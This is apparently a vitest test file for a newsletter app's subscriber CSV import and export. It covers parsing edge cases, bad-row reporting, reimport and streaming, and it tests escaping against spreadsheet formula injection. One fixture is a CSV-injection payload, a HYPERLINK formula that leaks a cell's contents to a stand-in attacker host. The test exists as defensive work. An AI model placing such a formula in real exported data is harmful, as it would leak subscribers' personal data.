/**
 * Subscriber CSV import and export against a real SQLite store. Real: csv-parse, csv-stringify,
 * the store and the importer. Faked: nothing; the counting importer subclass only observes the
 * batches it is given.
 */
import { Readable, Writable } from 'node:stream';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Subscriber, SubscriptionInput } from '../../../../src/domain/subscriber.js';
import {
  CsvHeaderError,
  escapeFormula,
  exportSubscribersCsv,
  importSubscribersCsv,
  unescapeFormula,
} from '../../../../src/channels/newsletter/csv.js';
import { SubscriberImporter, type ImportOptions } from '../../../../src/channels/newsletter/subscriber-import.js';
import type { Database } from '../../../../src/store/database.js';
import { SubscriberStore } from '../../../../src/store/subscribers.js';
import { databaseTargets } from '../../../helpers/database.js';

const [sqlite] = databaseTargets();
const T0 = new Date('2030-01-01T00:00:00.000Z');

/** A stream delivering `text` in small chunks, so records and CRLFs straddle chunk boundaries. */
function csv(text: string, chunkSize = 7): Readable {
  const bytes = Buffer.from(text, 'utf8');
  const chunks: Buffer[] = [];
  for (let start = 0; start < bytes.length; start += chunkSize) chunks.push(bytes.subarray(start, start + chunkSize));
  return Readable.from(chunks);
}

class CollectingWritable extends Writable {
  text = '';
  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void): void {
    this.text += chunk.toString('utf8');
    // Slow consumer: the exporter must wait for it.
    setImmediate(callback);
  }
}

/** Records the size of every batch it is given; otherwise the real importer. */
class BatchRecordingImporter extends SubscriberImporter {
  batches: number[] = [];
  override importMany(rows: readonly SubscriptionInput[], options: ImportOptions) {
    this.batches.push(rows.length);
    return super.importMany(rows, options);
  }
}

describe('subscriber CSV', () => {
  let database: Database;
  let store: SubscriberStore;
  let importer: BatchRecordingImporter;

  beforeEach(async () => {
    database = await sqlite!.open();
    store = new SubscriberStore(database);
    importer = new BatchRecordingImporter(database);
  });

  afterEach(async () => {
    await database.close();
  });

  const importCsv = (text: string, confirmed = true, extra: { onPending?: (s: Subscriber[]) => Promise<void>; batchSize?: number } = {}) =>
    importSubscribersCsv(csv(text), { importer, confirmed, now: () => T0, ...extra });

  it('imports every column, with categories separated by ;', async () => {
    const result = await importCsv(
      'email,frequency,categories,name\nann@example.org,weekly,Sport;Transport & Roads,Ann Lee\nbob@example.org,,,\n',
    );

    expect(result).toEqual({ rows: 2, created: 2, updated: 0, unchanged: 0, bad: [] });
    expect(await store.getByEmail('ann@example.org')).toMatchObject({
      state: 'confirmed',
      frequency: 'weekly',
      categories: ['sport', 'transport-roads'],
      name: 'Ann Lee',
    });
    expect(await store.getByEmail('bob@example.org')).toMatchObject({ frequency: 'immediate', categories: [], name: null });
  });

  it('refuses a header without an email column, naming the columns it found', async () => {
    const attempt = importCsv('mail,frequency\nann@example.org,daily\n');
    await expect(attempt).rejects.toBeInstanceOf(CsvHeaderError);
    await expect(importCsv('Mail, Frequency\nann@example.org,daily\n')).rejects.toThrow(
      'CSV header has no "email" column (found: "mail", "frequency")',
    );
    expect(await store.countByState()).toMatchObject({ confirmed: 0, pending: 0 });
  });

  it('accepts rows with fewer or more columns than the header, and only an email column', async () => {
    expect(
      await importCsv('email,frequency,name\nann@example.org\nbob@example.org,daily\ncat@example.org,weekly,Cat,extra\n'),
    ).toMatchObject({
      rows: 3,
      created: 3,
      bad: [],
    });
    expect(await importCsv('EMAIL\ndan@example.org\n')).toMatchObject({ created: 1, bad: [] });
    expect((await store.getByEmail('bob@example.org'))?.frequency).toBe('daily');
  });

  it('reads a file with a BOM, CRLF line endings and padded header names', async () => {
    const result = await importCsv('\uFEFF Email , Frequency \r\nann@example.org,daily\r\nbob@example.org,weekly\r\n');

    expect(result).toEqual({ rows: 2, created: 2, updated: 0, unchanged: 0, bad: [] });
    expect((await store.getByEmail('ann@example.org'))?.frequency).toBe('daily');
  });

  it('reports bad rows with their line numbers and imports the rest', async () => {
    const text = [
      'email,frequency,name',
      'ann@example.org,daily,Ann', // 2
      'not-an-address,daily,Bob', // 3
      '', // 4: empty, skipped
      'cat@example.org,hourly,Cat', // 5
      ',daily,Nobody', // 6
      'dan@example.org,weekly,"Dan', // 7, a quoted name spanning lines 7–8…
      'Smith"',
      'Eve <eve@example.org>,daily,Eve', // 9
      'fay@example.org,daily,Fay', // 10
    ].join('\n');

    for (const lineEnding of ['\n', '\r\n']) {
      await database.db.deleteFrom('subscribers').execute();
      const result = await importCsv(text.replaceAll('\n', lineEnding));

      expect(result.bad).toEqual([
        { line: 3, field: 'email', message: 'email must contain exactly one @' },
        { line: 5, field: 'frequency', message: 'must be one of immediate, daily, weekly' },
        { line: 6, field: 'email', message: 'email is required' },
        { line: 7, field: 'name', message: 'must not contain control characters or line breaks' },
        { line: 9, field: 'email', message: 'email must be a bare address, not a form like "Name <name@example.org>"' },
      ]);
      expect(result).toMatchObject({ rows: 7, created: 2 });
      expect(await store.getByEmail('fay@example.org')).not.toBeNull();
    }
  });

  it('counts lines of a quoted field with a line break before a bad row', async () => {
    const text = 'email,categories\r\nann@example.org,"Sport;\r\nArts"\r\nbad@,x\r\n';
    const result = await importCsv(text);
    expect(result.bad).toEqual([{ line: 4, field: 'email', message: 'email has no domain after the @' }]);
    expect((await store.getByEmail('ann@example.org'))?.categories).toEqual(['sport', 'arts']);
  });

  it('reports an address given twice, naming the earlier line, and imports the first', async () => {
    const result = await importCsv('email,frequency\nann@example.org,daily\nbob@example.org,daily\n  ANN@Example.org ,weekly\n');

    expect(result.bad).toEqual([{ line: 4, field: 'email', message: 'ann@example.org is a duplicate of line 2' }]);
    expect(result).toMatchObject({ rows: 3, created: 2 });
    expect((await store.getByEmail('ann@example.org'))?.frequency).toBe('daily');
  });

  it('reports CSV syntax errors with their line instead of failing', async () => {
    const result = await importCsv('email,name\nann@example.org,An"n\nbob@example.org,Bob\ncat@example.org,"Cat\n');

    expect(result.bad.map((bad) => bad.line)).toEqual([2, 4]);
    expect(result.rows).toBe(3);
    expect(result.bad[0]?.message).toMatch(/Invalid Opening Quote/);
    expect(result.bad[1]?.message).toMatch(/Quote Not Closed/);
    expect(await store.getByEmail('bob@example.org')).not.toBeNull();
  });

  it('changes nothing when the same file is imported again', async () => {
    const text = 'email,frequency,categories,name\nann@example.org,daily,Sport,Ann\nbob@example.org,weekly,,\n';
    await importCsv(text);

    expect(await importCsv(text)).toEqual({ rows: 2, created: 0, updated: 0, unchanged: 2, bad: [] });
    expect(await importCsv(text.replace('daily', 'weekly'))).toMatchObject({ updated: 1, unchanged: 1 });
  });

  it('leaves the preferences of columns the file does not have alone', async () => {
    await importCsv('email,frequency,categories,name\nann@example.org,daily,politics;sports,Ann\n');
    expect(await importCsv('email\nann@example.org\n')).toMatchObject({ updated: 0, unchanged: 1 });
    expect(await importCsv('email,name\nann@example.org,Annie\n')).toMatchObject({ updated: 1 });
    expect(await store.getByEmail('ann@example.org')).toMatchObject({
      frequency: 'daily',
      categories: ['politics', 'sports'],
      name: 'Annie',
    });
  });

  it('imports pending subscribers without --confirmed and hands them over for confirmation, batch by batch', async () => {
    const handed: string[][] = [];
    const onPending = async (subscribers: Subscriber[]) => {
      handed.push(subscribers.map((s) => s.email));
    };
    const text = `email\n${['a', 'b', 'c', 'd', 'e'].map((local) => `${local}@example.org`).join('\n')}\n`;

    const result = await importCsv(text, false, { onPending, batchSize: 2 });

    expect(result).toMatchObject({ rows: 5, created: 5 });
    expect(handed.map((emails) => emails.length)).toEqual([2, 2, 1]);
    expect(handed.flat().sort()).toEqual(['a@example.org', 'b@example.org', 'c@example.org', 'd@example.org', 'e@example.org']);
    expect(await store.countByState()).toMatchObject({ pending: 5, confirmed: 0 });
  });

  it('hands nothing over for confirmation with --confirmed', async () => {
    const handed: Subscriber[] = [];
    await importCsv('email\nann@example.org\n', true, { onPending: async (subscribers) => void handed.push(...subscribers) });

    expect(handed).toEqual([]);
    expect((await store.getByEmail('ann@example.org'))?.state).toBe('confirmed');
  });

  it('exports every subscriber, and the export imports back unchanged', async () => {
    await importCsv('email,frequency,categories,name\nann@example.org,daily,Sport;Arts,"Lee, Ann"\nbob@example.org,,,\n');
    await importCsv('email\ncat@example.org\n', false);
    const output = new CollectingWritable();

    expect(await exportSubscribersCsv(store, output)).toBe(3);

    const lines = output.text.trimEnd().split('\n');
    expect(lines[0]).toBe('email,frequency,categories,name,state,created_at,confirmed_at');
    expect(lines).toContain(`ann@example.org,daily,sport;arts,"Lee, Ann",confirmed,${T0.toISOString()},${T0.toISOString()}`);
    expect(lines).toContain(`cat@example.org,immediate,,,pending,${T0.toISOString()},`);
    expect(await importCsv(output.text, false)).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3, bad: [] });

    const other = await sqlite!.open();
    try {
      const copy = new SubscriberStore(other);
      await importSubscribersCsv(csv(output.text), { importer: new SubscriberImporter(other), confirmed: true, now: () => T0 });
      const preferences = (s: Subscriber | null) => s && { email: s.email, frequency: s.frequency, categories: s.categories, name: s.name };
      for (const email of ['ann@example.org', 'bob@example.org', 'cat@example.org']) {
        expect(preferences(await copy.getByEmail(email))).toEqual(preferences(await store.getByEmail(email)));
      }
    } finally {
      await other.close();
    }
  });

  it('escapes cells a spreadsheet would run as formulas, and imports them back as they were', async () => {
    const names = [
      '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
      '+1 555 0100',
      '-Ann-',
      '@SUM(A1:A9)',
      "'=already quoted",
      "'Connor",
    ];
    const person = (email: string, name: string | null = null) => ({ email, frequency: 'immediate' as const, categories: [], name });
    await importer.importMany(
      [
        ...names.map((name, i) => person(`reader${i}@example.org`, name)),
        ...['=eve@example.org', '-dan@example.org', "'=fay@example.org"].map((email) => person(email)),
      ],
      { confirmed: true, now: T0 },
    );
    const output = new CollectingWritable();

    expect(await exportSubscribersCsv(store, output)).toBe(names.length + 3);

    const cells = output.text
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((line) => line.replace(/^"/, ''));
    expect(cells.filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([]);
    expect(output.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click"")"`);
    expect(output.text).toContain(`'+1 555 0100`);
    expect(output.text).toContain(`'-Ann-`);
    expect(output.text).toContain(`'@SUM(A1:A9)`);
    expect(output.text).toContain(`''=already quoted`);
    expect(output.text).toContain(`,'Connor,`);
    expect(output.text).toContain(`'=eve@example.org,`);
    expect(output.text).toContain(`''=fay@example.org,`);

    const other = await sqlite!.open();
    try {
      const copy = new SubscriberStore(other);
      const result = await importSubscribersCsv(csv(output.text), {
        importer: new SubscriberImporter(other),
        confirmed: true,
        now: () => T0,
      });
      expect(result).toMatchObject({ created: names.length + 3, bad: [] });
      const people = async (target: SubscriberStore) =>
        (await Promise.all([...names.keys()].map((i) => target.getByEmail(`reader${i}@example.org`)))).map((s) => s?.name);
      expect(await people(copy)).toEqual(await people(store));
      expect(await people(copy)).toEqual(names);
      for (const email of ['=eve@example.org', '-dan@example.org', "'=fay@example.org"])
        expect(await copy.getByEmail(email)).not.toBeNull();
    } finally {
      await other.close();
    }
  });

  it("drops a leading ' on import only before a formula character", async () => {
    const result = await importCsv(`email,name\na@example.org,'=1+1\nb@example.org,'Connor\nc@example.org,''+x\nd@example.org,'\n`);
    expect(result).toMatchObject({ created: 4, bad: [] });
    const nameOf = async (email: string) => (await store.getByEmail(email))?.name;
    expect([
      await nameOf('a@example.org'),
      await nameOf('b@example.org'),
      await nameOf('c@example.org'),
      await nameOf('d@example.org'),
    ]).toEqual(['=1+1', "'Connor", "'+x", "'"]);
  });

  it('escapes every formula start, tab and carriage return included, and undoes exactly its own escape', () => {
    for (const cell of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=1", "''\t"]) {
      expect(escapeFormula(cell)).toBe(`'${cell}`);
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
    for (const cell of ['', 'ann', "'", "'x", '1=1', ' =1', 'a@b']) expect(escapeFormula(cell)).toBe(cell);
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }), (cell) => {
        expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
        expect(escapeFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('streams a 20,000-row file in batches of 1000', async () => {
    const rowCount = 20_000;
    async function* lines() {
      yield 'email,frequency,categories,name\r\n';
      for (let i = 0; i < rowCount; i++) yield `reader${i}@example.org,${i % 2 ? 'daily' : 'weekly'},Sport,Reader ${i}\r\n`;
    }
    const progress: Array<{ rows: number; bytes: number }> = [];

    const result = await importSubscribersCsv(Readable.from(lines()), {
      importer,
      confirmed: true,
      now: () => T0,
      onProgress: (p) => progress.push(p),
    });

    expect(result).toEqual({ rows: rowCount, created: rowCount, updated: 0, unchanged: 0, bad: [] });
    expect(importer.batches).toEqual(Array.from({ length: 20 }, () => 1000));
    expect(progress).toHaveLength(rowCount);
    expect(progress.at(-1)?.rows).toBe(rowCount);
    expect(progress.at(-1)?.bytes).toBeGreaterThan(rowCount * 40);
    expect(await store.countByState()).toMatchObject({ confirmed: rowCount });
  });
});
